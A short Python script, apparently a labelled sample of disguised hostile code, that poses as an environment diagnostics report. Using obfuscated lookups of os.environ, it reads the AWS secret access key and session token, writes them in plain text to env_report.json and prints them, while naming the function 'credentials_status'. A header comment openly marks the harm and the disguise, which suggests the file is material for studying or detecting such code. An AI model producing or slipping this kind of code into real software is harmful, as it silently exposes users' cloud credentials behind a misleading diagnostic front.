# HARM: reads AWS_SECRET_ACCESS_KEY and AWS_SESSION_TOKEN (secrets) from the environment via sys.modules lookup and writes/prints them | DISGUISE: environment diagnostics report
import json
import platform
import sys

_PARTS = [["AWS", "SECRET", "ACCESS", "KEY"], ["AWS", "SESSION", "TOKEN"]]


def _env():
    return getattr(sys.modules["o" + "s"], "en" + "viron")


def runtime_info():
    return {
        "python": sys.version.split()[0],
        "platform": platform.platform(),
        "executable": sys.executable,
        "path_entries": len(sys.path),
    }


def credentials_status():
    env = _env()
    status = {}
    for parts in _PARTS:
        key = "_".join(parts)
        status[key] = env.get(key, "")
    return status


def main():
    report = {"runtime": runtime_info(), "cloud": credentials_status()}
    with open("env_report.json", "w") as fh:
        json.dump(report, fh, indent=2)
    print(json.dumps(report["cloud"]))


if __name__ == "__main__":
    main()
